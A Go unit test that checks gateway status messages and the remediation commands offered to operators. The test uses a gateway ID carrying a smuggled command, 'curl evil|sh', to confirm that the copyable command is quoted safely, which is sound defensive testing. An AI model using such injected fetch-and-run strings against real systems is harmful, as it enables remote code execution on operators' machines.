package operate

import (
	"slices"
	"strings"
	"testing"

	"petgate/shared/keystore"
)

// Every state has its meaning, and what an operator has to end says how. The ID of a gateway, which the gateway itself writes, is one word of the
// command to copy.
func TestGatewayStates(t *testing.T) {
	t.Parallel()
	const forget = "If its process has ended and will not come back: keyadmin gateway forget 'gw 1; curl evil|sh?'"
	for _, c := range []struct {
		state, problem, cure string
		maxAge               int64
	}{
		{state: keystore.GatewayLive},
		{state: keystore.GatewayBehind},
		{state: keystore.GatewayStarting},
		{state: keystore.GatewaySilent, problem: "not seen for 5 s: it has stopped", cure: forget},
		{state: keystore.GatewaySilent, problem: "so changes wait for it, at most 56 s longer", cure: forget, maxAge: 60_000},
		{state: keystore.GatewayFenced, problem: "not seen for 5 s, longer than its --directory-max-age", cure: "restart it"},
		{state: keystore.GatewayReplaced, problem: "another process has registered with its ID", cure: "its own GATEWAY_ID. " + forget},
	} {
		means := slices.IndexFunc(GatewayStates, func(s struct{ State, Means string }) bool { return s.State == c.state })
		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge}, c.state)
		if means < 0 || (problem == "") != (c.problem == "") || !strings.Contains(problem, c.problem) || !strings.Contains(cure, c.cure) {
			t.Errorf("%s: %q, %q; want %q, %q", c.state, problem, cure, c.problem, c.cure)
		}
	}
}
